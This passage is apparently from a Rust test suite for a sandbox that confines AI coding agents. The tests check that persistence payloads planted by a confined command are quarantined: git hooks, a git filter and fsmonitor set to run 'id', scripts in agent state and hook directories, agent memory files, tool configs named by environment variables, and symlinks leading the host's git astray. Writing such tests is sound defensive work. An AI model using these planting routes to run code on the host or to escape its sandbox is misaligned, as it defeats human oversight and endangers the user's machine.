            &format!("mkdir -p {s}/wt/tools/hooks {s}/work3/hk && echo x > {s}/wt/tools/hooks/pre-commit && echo x > {s}/work3/hk/pre-commit"),
        ]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for hook in ["wt/tools/hooks/pre-commit", "work3/hk/pre-commit"] {
            assert!(
                !fx.scratch.join(hook).exists(),
                "{who:?}: {hook} stayed\n{}",
                run.describe()
            );
        }
        // A writable tree inside the repository: the hooks it names there.
        std::fs::create_dir_all(fx.repo.join("tools")).unwrap();
        fx.give_to(who);
        let tools = fx.p("repo/tools");
        let run = fx.jail(&[
            "--rw",
            &tools,
            "--",
            "/bin/sh",
            "-c",
            &format!("mkdir -p {tools}/hooks && echo x > {tools}/hooks/pre-commit"),
        ]);
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        assert!(
            !fx.repo.join("tools/hooks/pre-commit").exists(),
            "{who:?}: {}",
            run.describe()
        );
    }
}

#[test]
fn rules_hold_when_home_path_or_hooks_are_spelled_through_symlinks_and_links_lead_out() {
    // The rules compare paths; HOME, a PATH entry or a global hooksPath may be spelled through
    // a symlink, and a new symlink may lead the host's tools out of the walked tree.
    if !full_level_or_skip("planted-spelled") {
        return;
    }
    for who in users() {
        let fx = Fixture::new(who, "spelled");
        let link = fx.dir.join("link");
        std::os::unix::fs::symlink(&fx.dir, &link).unwrap();
        std::fs::create_dir_all(fx.repo.join("bin")).unwrap();
        std::fs::write(
            fx.home.join(".gitconfig"),
            format!(
                "[core]\n\thooksPath = {}\n",
                link.join("repo/hooks").display()
            ),
        )
        .unwrap();
        fx.give_to(who);
        let outside = fx.dir.join("outside");
        std::fs::create_dir_all(outside.join(".git/objects")).unwrap();
        std::fs::create_dir_all(outside.join(".git/refs")).unwrap();
        std::fs::write(outside.join(".git/HEAD"), "ref: refs/heads/m\n").unwrap();
        fx.give_to(who);
        let path = format!("{}:/usr/bin:/bin", link.join("repo/bin").display());
        let home = link.join("home").display().to_string();
        let repo = fx.p("repo");
        let script = format!(
            "mkdir -p hooks && echo x > hooks/pre-commit && echo x > bin/ls && ln -s {} vendor",
            outside.display()
        );
        let run = fx.jail_with(
            &[
                "--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
            ],
            &[],
            &[("PATH", &path), ("HOME", &home)],
        );
        assert_eq!(run.code, Some(0), "{who:?}: {}", run.describe());
        for p in ["hooks/pre-commit", "bin/ls", "vendor"] {
            assert!(
                std::fs::symlink_metadata(fx.repo.join(p)).is_err(),
                "{who:?}: {p} stayed\n{}",
                run.describe()
            );
        }
        // HOME through a symlink is still refused as the workspace profile's writable root.
        let run = fx
            .command(
                common::jail_bin(),
                &["--profile", "workspace", "--", "true"],
            )
            .current_dir(&fx.home)
            .env("HOME", &home)
            .output()
            .unwrap();
        assert_eq!(
            run.status.code(),
            Some(125),
            "{who:?}: {}",
            String::from_utf8_lossy(&run.stderr)
        );
    }
}

/// One agent profile's case: its protected config (relative to HOME, with content) naming
/// scripts in its state directory in ways no path-shaped word gives away, and the files the
/// run plants there (relative to HOME; `true` when the file exists before the run).
struct StateCase {
    profile: &'static str,
    config: (&'static str, &'static str),
    planted: &'static [(&'static str, bool)],
    /// Symlinks the run creates (name, target), relative to HOME.
    links: &'static [(&'static str, &'static str)],
}

const STATE_CASES: &[StateCase] = &[
    StateCase {
        profile: "claude-code",
        config: (
            ".claude/settings.json",
            r#"{"statusLine":{"type":"command","command":"python3 ~/.claude/statusline.py"},
"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"cd ~/.claude && ./guard.sh"}]}],
"Stop":[{"hooks":[{"type":"command","command":"bash \"$HOME/.claude/notify.sh\""},
{"type":"command","command":"cd ${HOME}/.claude; bash hookscript; . lib/util.sh; source ./run"}]}]}}"#,
        ),
        planted: &[
            (".claude/guard.sh", true),
            (".claude/helper.py", true),
            (".claude/lib/util.sh", true),
            (".claude/notify.sh", false),
            (".claude/hookscript", false),
            (".claude/run", false),
            (".claude/node_helper.js", false),
            // Auto-memory, loaded into the system prompt of every session in that project.
            (".claude/projects/-w-repo/memory/MEMORY.md", true),
            (".claude/projects/-w-repo/memory/notes.md", false),
            (".claude/projects/-w-other/memory/MEMORY.md", false),
        ],
        links: &[(".claude/linked.sh", "projects/evil.sh")],
    },
    StateCase {
        profile: "codex",
        config: (
            ".codex/config.toml",
            "notify = [\"bash\", \"-c\", \"cd ~/.codex && ./notify.sh\"]\n",
        ),
        planted: &[
            (".codex/notify.sh", false),
            (".codex/helper", true),
            (".codex/bin/tool", false),
        ],
        links: &[],
    },
    StateCase {
        profile: "gemini-cli",
        config: (
            ".gemini/settings.json",
            r#"{"hooks":{"BeforeTool":[{"hooks":[{"type":"command","command":"cd \"$HOME/.gemini\" && sh guard"}]}]}}"#,
        ),
        planted: &[
            (".gemini/guard", false),
            (".gemini/scripts/check.mjs", true),
            // git's global config for the checkpoints' shadow repository (XDG_CONFIG_HOME).
            (".gemini/history/0a1b/git/config", true),
            (".gemini/history/2c3d/git/attributes", false),
        ],
        links: &[],
    },
    StateCase {
        profile: "opencode",
        config: (
            ".config/opencode/opencode.json",
            r#"{"mcp":{"x":{"type":"local","command":["node","server.cjs"]}}}"#,
        ),
        planted: &[
            (".config/opencode/server.cjs", false),
            (".local/share/opencode/hook.sh", false),
            (".local/state/opencode/run.py", false),
            (".cache/opencode/loader.ts", true),
        ],
        links: &[],
    },
    StateCase {
        profile: "aider",
        config: (".aider.conf.yml", "lint-cmd: \"cd ~/.aider && ./lint\"\n"),
        planted: &[(".aider/lint", false), (".aider/hooks/x.rb", true)],
        links: &[],
    },
];

#[test]
fn what_an_agents_hooks_can_run_from_its_state_directory_survives_no_run() {
    // Issue 34, item 5: the agents' protected configs run scripts in their state directories by
    // names no path-shaped word reveals (`cd ~/.claude && ./guard.sh`, a quoted `$HOME`, a bare
    // name after `cd`, `source`, `.`, an import beside a protected script, a name with no
    // extension run by an interpreter, a symlink into the agent's data). Whatever the spelling,
    // nothing the run plants there may be left for the host's agent to run: existing files stay
    // as they were, new ones are moved aside and named.
    if !full_level_or_skip("planted-agent-state-code") {
        return;
    }
    for who in users() {
        for case in STATE_CASES {
            for disabled in MODES {
                let fx = Fixture::new(who, "agent-code");
                let (cfg, text) = case.config;
                let cfg = fx.home.join(cfg);
                std::fs::create_dir_all(cfg.parent().unwrap()).unwrap();
                std::fs::write(&cfg, text).unwrap();
                for (rel, _) in case.planted.iter().filter(|(_, e)| *e) {
                    let p = fx.home.join(rel);
                    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
                    std::fs::write(&p, "echo users\n").unwrap();
                }
                if case.profile == "claude-code" {
                    std::fs::write(fx.home.join(".claude/statusline.py"), "import helper\n")
                        .unwrap();
                }
                fx.give_to(who);
                let mut script = String::new();
                for (rel, _) in case.planted {
                    let p = fx.home.join(rel);
                    script.push_str(&format!(
                        "mkdir -p '{}'; printf '#!/bin/sh\\necho PWNED\\n' >> '{}'; chmod +x '{}'; ",
                        p.parent().unwrap().display(),
                        p.display(),
                        p.display()
                    ));
                }
                for (name, target) in case.links {
                    let p = fx.home.join(name);
                    let t = p.parent().unwrap().join(target);
                    script.push_str(&format!(
                        "mkdir -p '{}'; echo 'echo PWNED' > '{}'; ln -s '{target}' '{}'; ",
                        t.parent().unwrap().display(),
                        t.display(),
                        p.display()
                    ));
                }
                script.push_str("true");
                let run = fx.jail_with(
                    &["--profile", case.profile, "--", "/bin/sh", "-c", &script],
                    disabled,
                    &[],
                );
                let what = format!("{} as {who:?} without {disabled:?}", case.profile);
                assert_eq!(run.code, Some(0), "{what}: {}", run.describe());
                for (rel, existing) in case.planted {
                    let p = fx.home.join(rel);
                    let text = std::fs::read_to_string(&p).unwrap_or_default();
                    assert!(
                        !text.contains("PWNED"),
                        "{what}: {rel} was planted and stayed for the host's agent to run\n{}",
                        run.describe()
                    );
                    // An existing file keeps its text; without the mount view the command can
                    // still chmod it (metadata is not confined there), and jail then moves it
                    // aside like any change to a protected path.
                    if *existing && p.exists() {
                        assert_eq!(text, "echo users\n", "{what}: {rel} changed");
                    }
                }
                for (name, _) in case.links {
                    let p = fx.home.join(name);
                    let text = std::fs::read_to_string(&p).unwrap_or_default();
                    assert!(
                        !text.contains("PWNED"),
                        "{what}: the link {name} stayed\n{}",
                        run.describe()
                    );
                }
                assert_eq!(
                    std::fs::read_to_string(&cfg).unwrap(),
                    text,
                    "{what}: the config changed"
                );
            }
        }
        // Control: the same planting without jail leaves every file for the agent to run.
        let fx = Fixture::new(who, "agent-code-bare");
        let p = fx.home.join(".claude/guard.sh");
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        fx.give_to(who);
        let out = fx
            .command(
                "/bin/sh".as_ref(),
                &["-c", &format!("echo 'echo PWNED' >> '{}'", p.display())],
            )
            .output()
            .unwrap();
        assert!(out.status.success());
        assert!(std::fs::read_to_string(&p).unwrap().contains("PWNED"));
    }
}

#[test]
fn a_submodule_git_directory_planted_under_git_modules_is_moved_aside_complete_or_not() {
    // Issue 34, item 6: `.git/modules/NAME` with only `hooks` and `config` is no repository
    // yet, but a later `git submodule add` takes it as it stands (and breaks on it), and it is
    // one once completed. At any depth (a submodule's own `modules`), whatever it holds.
    if !full_level_or_skip("planted-git-modules") {
        return;
    }
    let planted = [".git/modules/evil", ".git/modules/a/modules/b"];
    let script = "mkdir -p .git/modules/evil/hooks .git/modules/a/modules/b/hooks && \
        printf '#!/bin/sh\\nid\\n' > .git/modules/evil/hooks/post-checkout && \
        printf '[core]\\n\\tfsmonitor = id\\n' > .git/modules/evil/config && \
        printf '[core]\\n\\tfsmonitor = id\\n' > .git/modules/a/modules/b/config";
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "git-modules");
            git_project(&fx);
            // An existing submodule's git directory (the nested `modules` lives in it).
            common::git(&fx, &["init", "-q", "--bare", ".git/modules/a"]);
            let run = plant(&fx, &[], script, disabled);
            if disabled.is_empty() {
                assert_all_moved(&fx, &run, &planted, "modules");
            } else {
                // Landlock alone refuses new entries beside the git directory's protected
                // names: nothing gets planted to move.
                assert_eq!(
                    left(&fx, &planted),
                    Vec::<String>::new(),
                    "modules {disabled:?} as {who:?}\n{}",
                    run.describe()
                );
            }
            assert!(
                fx.repo.join(".git/modules/a/HEAD").exists(),
                "the existing submodule stays"
            );
        }
        let fx = Fixture::new(who, "git-modules-bare");
        git_project(&fx);
        common::git(&fx, &["init", "-q", "--bare", ".git/modules/a"]);
        plant_bare(&fx, script);
        assert_eq!(left(&fx, &planted).len(), planted.len(), "control");
    }
}

#[test]
fn a_tool_config_the_environment_names_inside_a_writable_tree_is_protected() {
    // Issue 34, item 6: ripgrep reads the file RIPGREP_CONFIG_PATH names (`--pre=CMD` runs a
    // program on every file it searches); pip, npm, bash and others read theirs the same way.
    // Inside a writable tree such a file, whatever its name, is read-only where it exists and
    // moved aside where the run creates it.
    if !full_level_or_skip("planted-env-configs") {
        return;
    }
    // (variable, value, path relative to the project, exists before the run)
    let cases: &[(&str, &str, &str, bool)] = &[
        ("RIPGREP_CONFIG_PATH", ".ripgreprc", ".ripgreprc", true),
        ("PIP_CONFIG_FILE", "", "tools/pip-settings", false),
        ("BASH_ENV", "", "scripts/env.sh", true),
        ("npm_config_userconfig", "", "cfg/npm-user", false),
        ("WGETRC", "", "w.conf", false),
    ];
    let script: String = cases
        .iter()
        .map(|(_, _, rel, _)| {
            format!("mkdir -p \"$(dirname {rel})\"; echo '--pre=/tmp/x PLANTED' >> {rel}; ")
        })
        .collect::<String>()
        + "true";
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "env-configs");
            for (_, _, rel, existing) in cases {
                if *existing {
                    let p = fx.repo.join(rel);
                    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
                    std::fs::write(&p, "users\n").unwrap();
                }
            }
            fx.give_to(who);
            let env: Vec<(String, String)> = cases
                .iter()
                .map(|(var, value, rel, _)| {
                    let v = if value.is_empty() {
                        fx.repo.join(rel).to_string_lossy().into_owned()
                    } else {
                        value.to_string()
                    };
                    (var.to_string(), v)
                })
                .collect();
            let env: Vec<(&str, &str)> =
                env.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
            let repo = fx.p("repo");
            let run = fx.jail_with(
                &[
                    "--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
                ],
                disabled,
                &env,
            );
            let what = format!("as {who:?} without {disabled:?}");
            assert_eq!(run.code, Some(0), "{what}: {}", run.describe());
            for (var, _, rel, existing) in cases {
                let p = fx.repo.join(rel);
                let text = std::fs::read_to_string(&p).unwrap_or_default();
                assert!(
                    !text.contains("PLANTED"),
                    "{what}: {rel}, which {var} names, was planted and stayed\n{}",
                    run.describe()
                );
                if *existing && p.exists() {
                    assert_eq!(text, "users\n", "{what}: {rel} changed");
                }
            }
        }
        // Control: without the variables the same files are the project's to write.
        let fx = Fixture::new(who, "env-configs-ctl");
        let repo = fx.p("repo");
        let run = fx.jail(&[
            "--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
        ]);
        assert_eq!(run.code, Some(0), "control: {}", run.describe());
        for (_, _, rel, _) in cases {
            let text = std::fs::read_to_string(fx.repo.join(rel)).unwrap_or_default();
            assert!(text.contains("PLANTED"), "control: {rel} was not written");
        }
    }
}

#[test]
fn a_quarantined_entry_is_hidden_from_later_runs_and_no_symlink_leads_the_host_to_a_repository() {
    // Red team F3: run 1 plants a repository with a filter command in opencode's snapshot data;
    // jail moves it aside beside itself. Run 2 links `snapshot/<project>/<hash>` to it (or to
    // any git directory), and the host's opencode runs `git --git-dir <link> add`, so the
    // filter runs on the host. A quarantined entry is hidden from every later run, and a new
    // symlink that leads to a git directory, a quarantined entry or a directory holding one is
    // moved aside, wherever it is in the writable trees (agent data included).
    if !full_level_or_skip("planted-quarantine-links") {
        return;
    }
    let snap = ".local/share/opencode/snapshot";
    let plant = "cd ~/.local/share/opencode/snapshot && mkdir -p evil/objects evil/refs/heads && \
        echo 'ref: refs/heads/main' > evil/HEAD && \
        printf '[filter \"x\"]\\n\\tclean = sh -c \"id > /tmp/pwned\"\\n' > evil/config && \
        mkdir -p evil/info && echo '* filter=x' > evil/info/attributes";
    // (link, target relative to the link's directory; `Q` is the quarantined repository)
    let links: &[(&str, &str)] = &[
        ("proj/hash", "../Q"),
        ("proj/legit", "../../storage/other/legit"),
        ("proj/other", "../../storage/other"),
        ("proj/holder", "../../storage/holder"),
        ("proj/up", ".."),
        ("proj/home-repo", "HOME/other/.git"),
    ];
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "quarantine-links");
            let home = fx.home.clone();
            // (Made before, and the others elsewhere: without the mount view, Landlock refuses
            // new entries in a directory that holds a hidden or protected one.)
            std::fs::create_dir_all(home.join(snap).join("proj")).unwrap();
            let storage = home.join(".local/share/opencode/storage");
            // A directory that holds a quarantined entry, from an earlier run.
            std::fs::create_dir_all(storage.join("holder/x.jail-quarantine-0")).unwrap();
            fx.give_to(who);
            // A repository the agent made itself, and one elsewhere in HOME.
            common::git(
                &fx,
                &[
                    "init",
                    "-q",
                    "--bare",
                    &format!("{}/other/legit", storage.display()),
                ],
            );
            common::git(&fx, &["init", "-q", &format!("{}/other", home.display())]);
            fx.give_to(who);
            let what = format!("as {who:?} without {disabled:?}");
            let run = fx.jail_with(
                &["--profile", "opencode", "--", "/bin/sh", "-c", plant],
                disabled,
                &[],
            );
            assert_eq!(run.code, Some(0), "{what}: {}", run.describe());
            let q = std::fs::read_dir(home.join(snap))
                .unwrap()
                .flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .find(|n| n.starts_with("evil.jail-quarantine-"))
                .unwrap_or_else(|| panic!("{what}: evil not moved aside\n{}", run.describe()));
            let mut script = format!(
                "cd ~/{snap} && \
                 if cat {q}/config; then echo READ-QUARANTINE; fi; \
                 if echo x > {q}/new; then echo WROTE-QUARANTINE; fi; "
            );
            for (link, target) in links {
                let target = target
                    .replace('Q', &q)
                    .replace("HOME", &home.display().to_string());
                script.push_str(&format!("ln -s '{target}' '{link}'; "));
            }
            script.push_str("true");
            let run = fx.jail_with(
                &["--profile", "opencode", "--", "/bin/sh", "-c", &script],
                disabled,
                &[],
            );
            assert_eq!(run.code, Some(0), "{what}: {}", run.describe());
            assert!(
                !run.stdout.contains("READ-QUARANTINE") && !run.stdout.contains("WROTE-QUARANTINE"),
                "{what}: the quarantined repository was reachable by the next run\n{}",
                run.describe()
            );
            for (link, _) in links {
                assert!(
                    std::fs::symlink_metadata(home.join(snap).join(link)).is_err(),
                    "{what}: the link {link} stayed for the host's git to follow\n{}",
                    run.describe()
                );
                assert!(
                    run.stderr.contains(link),
                    "{what}: {link} not named\n{}",
                    run.stderr
                );
            }
            assert!(
                home.join(snap).join(&q).join("config").exists(),
                "{what}: the quarantined repository stays for the user to review"
            );
            assert!(storage.join("other/legit/HEAD").exists());
        }
        // Control: the same links made without jail stay.
        let fx = Fixture::new(who, "quarantine-links-bare");
        std::fs::create_dir_all(fx.home.join(snap).join("legit")).unwrap();
        fx.give_to(who);
        let out = fx
            .command(
                "/bin/sh".as_ref(),
                &[
                    "-c",
                    &format!("cd ~/{snap} && mkdir proj && ln -s ../legit proj/legit"),
                ],
            )
            .output()
            .unwrap();
        assert!(out.status.success());
        assert!(std::fs::symlink_metadata(fx.home.join(snap).join("proj/legit")).is_ok());
    }
}

#[test]
fn what_runs_from_a_directory_the_environment_names_inside_a_writable_tree_is_protected() {
    // Red team F6: PYTHONPATH=$proj/src makes every host python import a planted
    // sitecustomize.py at start; CARGO_HOME's config.toml names a rustc-wrapper; Gradle runs
    // every script in GRADLE_USER_HOME/init.d. What runs from such a directory, when it lies in
    // a writable tree, is read-only where it exists and moved aside where the run creates it;
    // the rest of the directory stays the project's.
    if !full_level_or_skip("planted-env-code-dirs") {
        return;
    }
    // (variable, directory relative to the project, what runs beneath it, exists before)
    let cases: &[(&str, &str, &str, bool)] = &[
        ("PYTHONPATH", "src", "sitecustomize.py", false),
        ("PYTHONPATH", "src", "usercustomize.py", true),
        ("CARGO_HOME", ".cargo-home", "config.toml", false),
        ("CARGO_HOME", ".cargo-home", "bin/cargo-clippy", false),
        (
            "GRADLE_USER_HOME",
            "gradle-home",
            "init.d/evil.gradle",
            false,
        ),
        ("GRADLE_USER_HOME", "gradle-home", "gradle.properties", true),
        (
            "PYTHONUSERBASE",
            "pyuser",
            "lib/python3.12/site-packages/evil.pth",
            false,
        ),
        ("GNUPGHOME", "gnupg", "gpg-agent.conf", false),
    ];
    let script: String = cases
        .iter()
        .map(|(_, dir, rel, _)| {
            format!(
                "mkdir -p \"$(dirname {dir}/{rel})\"; echo 'import os; PLANTED' >> {dir}/{rel}; "
            )
        })
        .collect::<String>()
        + "echo data > src/app.py; true";
    for who in users() {
        for disabled in MODES {
            let fx = Fixture::new(who, "env-code-dirs");
            for (_, dir, rel, existing) in cases {
                std::fs::create_dir_all(fx.repo.join(dir)).unwrap();
                if *existing {
                    std::fs::write(fx.repo.join(dir).join(rel), "users\n").unwrap();
                }
            }
            // (Existing: without the mount view Landlock refuses new entries beside a
            // read-only one.)
            std::fs::write(fx.repo.join("src/app.py"), "old\n").unwrap();
            fx.give_to(who);
            let mut env: Vec<(&str, String)> = Vec::new();
            for (var, dir, _, _) in cases {
                if !env.iter().any(|(v, _)| v == var) {
                    env.push((var, fx.repo.join(dir).to_string_lossy().into_owned()));
                }
            }
            let env: Vec<(&str, &str)> = env.iter().map(|(k, v)| (*k, v.as_str())).collect();
            let repo = fx.p("repo");
            let run = fx.jail_with(
                &[
                    "--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
                ],
                disabled,
                &env,
            );
            let what = format!("as {who:?} without {disabled:?}");
            assert_eq!(run.code, Some(0), "{what}: {}", run.describe());
            for (var, dir, rel, existing) in cases {
                let p = fx.repo.join(dir).join(rel);
                let text = std::fs::read_to_string(&p).unwrap_or_default();
                assert!(
                    !text.contains("PLANTED"),
                    "{what}: {dir}/{rel}, beneath what {var} names, was planted and stayed\n{}",
                    run.describe()
                );
                if *existing && p.exists() {
                    assert_eq!(text, "users\n", "{what}: {rel} changed");
                }
            }
            assert_eq!(
                std::fs::read_to_string(fx.repo.join("src/app.py")).unwrap_or_default(),
                "data\n",
                "{what}: the rest of the directory stays the project's\n{}",
                run.describe()
            );
        }
        // Control: without the variables the same files are the project's to write.
        let fx = Fixture::new(who, "env-code-dirs-ctl");
        for (_, dir, _, _) in cases {
            std::fs::create_dir_all(fx.repo.join(dir)).unwrap();
        }
        fx.give_to(who);
        let repo = fx.p("repo");
        let run = fx.jail(&[
            "--rw", &repo, "--cwd", &repo, "--", "/bin/sh", "-c", &script,
        ]);
        assert_eq!(run.code, Some(0), "control: {}", run.describe());
        for (_, dir, rel, _) in cases {
            let text = std::fs::read_to_string(fx.repo.join(dir).join(rel)).unwrap_or_default();
            assert!(
                text.contains("PLANTED"),
                "control: {dir}/{rel} was not written"
            );
        }
    }
}
